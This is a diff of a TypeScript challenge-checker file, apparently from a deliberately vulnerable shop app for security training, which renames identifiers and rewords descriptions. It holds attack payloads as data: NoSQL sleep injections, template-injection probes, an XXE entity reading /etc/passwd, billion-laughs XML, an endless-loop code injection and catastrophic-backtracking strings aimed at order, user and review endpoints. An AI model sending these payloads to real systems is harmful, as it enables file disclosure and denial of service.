@@ -1,106 +1,117 @@
-import { guestForm, orderItem } from '../../deployment/deployment.ts';
-import { searchAttempts } from './search-requests.ts';
+import { createGuestForm, toOrderItem } from '../../deployment/deployment.ts';
+import { createSearches } from './search-requests.ts';
 import {
-  sendAllAttempts,
+  sendAll,
   anyReply,
-  replyContains,
+  containing,
   type Challenge,
   type ChallengeContext,
   type Attempt,
 } from './challenge.ts';
 
-/** Whether one answer took so long that the words sent must have been obeyed. */
-async function slow(shop: ChallengeContext, tries: readonly Attempt[]): Promise<boolean> {
+/** Checks whether a response takes more than 8 s, so that the input was executed. */
+async function isSlow(shop: ChallengeContext, attempts: readonly Attempt[]): Promise<boolean> {
   let slowest = 0;
-  for (const one of tries) {
-    const begun = performance.now();
-    await sendAllAttempts(shop, [one]);
-    slowest = Math.max(slowest, performance.now() - begun);
+  for (const attempt of attempts) {
+    const startedAt = performance.now();
+    await sendAll(shop, [attempt]);
+    slowest = Math.max(slowest, performance.now() - startedAt);
   }
   return slowest > 8_000;
 }
 
-const formulas = ['#{7919*7907}', '{{7919*7907}}', '${7919*7907}', '<%= 7919*7907 %>', '{7919*7907}'];
+const templateExpressions = [
+  '#{7919*7907}',
+  '{{7919*7907}}',
+  '${7919*7907}',
+  '<%= 7919*7907 %>',
+  '{7919*7907}',
+];
 
-/** Words that a server might carry out, or chew on for ages. */
 export const commands: readonly Challenge[] = [
   {
     name: 'NoSQL DoS',
-    attack: 'let the database sleep for ten seconds',
-    successSign: 'answers that take as long',
+    attack: 'make the database sleep for ten seconds',
+    successSign: 'slow responses',
     isSolved: (shop) =>
-      slow(shop, searchAttempts(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
+      isSlow(shop, createSearches(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
   },
   {
     name: 'SSTi',
-    attack: 'type formulas into a name, a dish and an address, and look at the pages made of them',
-    successSign: 'the result of the formula',
+    attack: 'send template expressions as names, product texts and URLs, and read the pages',
+    successSign: 'the evaluated expression',
     isSolved: async (shop) => {
-      const { market, chef } = shop;
-      const name = formulas.join(' ');
-      const item = await market.createProduct(chef, { name, description: name });
-      const cook = await market.createChef({ name });
+      const { app, chef } = shop;
+      const name = templateExpressions.join(' ');
+      const product = await app.createProduct(chef, { name, description: name });
+      const otherChef = await app.createChef({ name });
       const path = encodeURIComponent(name);
       const html = { Accept: 'text/html' };
-      const tries = [
-        `/mainpage/product/${item._id}`,
-        `/chefitems/${cook._id}`,
+      const attempts = [
+        `/mainpage/product/${product._id}`,
+        `/chefitems/${otherChef._id}`,
         `/search/${path}`,
         `/?q=${path}`,
       ].map((page): Attempt => ['get', page, { headers: html }]);
       const json: Attempt[] = [
-        ['get', `/api/products/${item._id}`],
+        ['get', `/api/products/${product._id}`],
         ['get', `/api/nothing/${path}`],
       ];
-      return anyReply(shop, [...tries, ...json], replyContains('62615533'));
+      return anyReply(shop, [...attempts, ...json], containing('62615533'));
     },
   },
   {
     name: 'XXE Data Access',
-    attack: 'send XML that reads a file of the server, as data and as a picture',
-    successSign: 'what stands in that file',
+    attack: 'send XML that reads a server file, as data and as a picture',
+    successSign: 'the content of the file',
     isSolved: (shop) =>
       anyReply(
         shop,
-        xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
-        replyContains(/root:.*:0:0/),
+        createXmlAttempts(shop, createEntityXml('<!ENTITY x SYSTEM "file:///etc/passwd">')),
+        containing(/root:.*:0:0/),
       ),
   },
   {
     name: 'XXE DoS',
-    attack: 'send XML whose words unfold a billion times',
-    successSign: 'answers that take long',
+    attack: 'send XML with exponential entity expansion',
+    successSign: 'slow responses',
     isSolved: (shop) => {
-      const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
-      return slow(shop, xml(shop, entity(`<!ENTITY e0 "ha">${laughs.join('')}<!ENTITY x "&e9;">`)));
+      const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
+      return isSlow(
+        shop,
+        createXmlAttempts(shop, createEntityXml(`<!ENTITY e0 "ha">${entities.join('')}<!ENTITY x "&e9;">`)),
+      );
     },
   },
   {
     name: 'Blocked RCE DoS',
-    attack: 'send code that never ends wherever an order takes words',
-    successSign: 'answers that take long',
-    isSolved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
+    attack: 'send an endless loop in every text field of an order',
+    successSign: 'slow responses',
+    isSolved: (shop) => isSlow(shop, createCodeAttempts(shop, '(function forever(){while(true);})()')),
   },
   {
     name: 'Successful RCE DoS',
-    attack: 'send patterns and words that a careless check chews on for ages',
-    successSign: 'answers that take long',
+    attack: 'send patterns and texts that cause catastrophic backtracking',
+    successSign: 'slow responses',
     isSolved: (shop) => {
-      const chewy = [
+      const slowInputs = [
         '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
         `${'a'.repeat(180)}!`,
         '(a+)+$',
         ' '.repeat(190),
       ];
-      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...searchAttempts(shop, chewy)]);
+      return isSlow(shop, [
+        ...slowInputs.flatMap((text) => createCodeAttempts(shop, text)),
+        ...createSearches(shop, slowInputs),
+      ]);
     },
   },
 ];
 
-const entity = (definitions: string) =>
+const createEntityXml = (definitions: string) =>
   `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;
 
-function xml({ chef }: ChallengeContext, document: string): Attempt[] {
+function createXmlAttempts({ chef }: ChallengeContext, document: string): Attempt[] {
   const { token } = chef;
   const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
   const paths = [
@@ -120,20 +131,20 @@ function xml({ chef }: ChallengeContext, document: string): Attempt[] {
   );
 }
 
-function code({ item, thief }: ChallengeContext, words: string): Attempt[] {
-  const { token } = thief;
-  const form = guestForm([{ ...orderItem(item), qty: words }], {
-    userName: words,
-    userEmail: words,
-    customerPhone: words,
+function createCodeAttempts({ product, attacker }: ChallengeContext, text: string): Attempt[] {
+  const { token } = attacker;
+  const form = createGuestForm([{ ...toOrderItem(product), qty: text }], {
+    userName: text,
+    userEmail: text,
+    customerPhone: text,
   });
-  const register = { name: words, email: `${words}@example.com`, phone: words, password: words };
+  const register = { name: text, email: `${text}@example.com`, phone: text, password: text };
   return [
     ['post', '/api/orders/guest', { body: form }],
-    ['post', '/b2b/v2/orders', { body: { cid: words, orderLinesData: words }, token }],
-    ['post', '/api/orders', { body: { orderItems: words, shippingAddress: words }, token }],
+    ['post', '/b2b/v2/orders', { body: { cid: text, orderLinesData: text }, token }],
+    ['post', '/api/orders', { body: { orderItems: text, shippingAddress: text }, token }],
     ['post', '/api/users', { body: register }],
-    ['post', `/api/products/${item._id}/reviews`, { body: { rating: words, comment: words }, token }],
-    ['get', `/api/orders/guest/${encodeURIComponent(words)}`],
+    ['post', `/api/products/${product._id}/reviews`, { body: { rating: text, comment: text }, token }],
+    ['get', `/api/orders/guest/${encodeURIComponent(text)}`],
   ];
 }
